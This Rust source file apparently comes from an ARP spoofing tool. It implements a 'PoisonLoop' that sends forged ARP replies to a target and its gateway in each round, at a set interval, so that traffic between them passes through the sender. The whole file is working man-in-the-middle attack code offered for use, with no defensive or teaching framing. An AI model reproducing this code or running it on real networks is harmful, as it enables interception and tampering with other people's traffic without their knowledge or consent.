use std::net::Ipv4Addr;
use std::time::Duration;

use tokio::sync::watch;
use tokio::time;

use crate::forge::{ ArpReply, Transmitter };
use crate::session::SpoofSession;
use crate::ArpResult;

/// Tells the target "I am the gateway" and the gateway "I am the target", then
/// waits `interval`, until the stop flag flips or a send fails.
#[derive(Debug, Clone)]
pub struct PoisonLoop {
    target:   Ipv4Addr,
    gateway:  Ipv4Addr,
    interval: Duration,
}

impl PoisonLoop {

    pub fn new(session: &SpoofSession, interval: Duration) -> PoisonLoop {
        PoisonLoop { target: session.target.address, gateway: session.gateway.address, interval }
    }

    /// The two replies of one round, in send order.
    pub fn round(&self) -> [ArpReply; 2] {
        [
            ArpReply::forged(self.gateway, self.target),
            ArpReply::forged(self.target, self.gateway),
        ]
    }

    /// Returns `Ok(rounds)` once `stop` reads true (or its sender is gone); the first
    /// transmission error ends the loop and is returned as is.
    pub async fn run<T: Transmitter>(&self, mut tx: T, mut stop: watch::Receiver<bool>) -> ArpResult<u64> {
        let mut rounds: u64 = 0;

        while !*stop.borrow() {
            for reply in self.round().iter() {
                tx.transmit(reply)?;
            }
            rounds += 1;
            debug!("round {} sent: {} <-> {}", rounds, self.target, self.gateway);

            tokio::select! {
                changed = stop.changed() => {
                    if changed.is_err() {
                        break;
                    }
                },
                _ = time::sleep(self.interval) => {},
            }
        }

        Ok(rounds)
    }
}
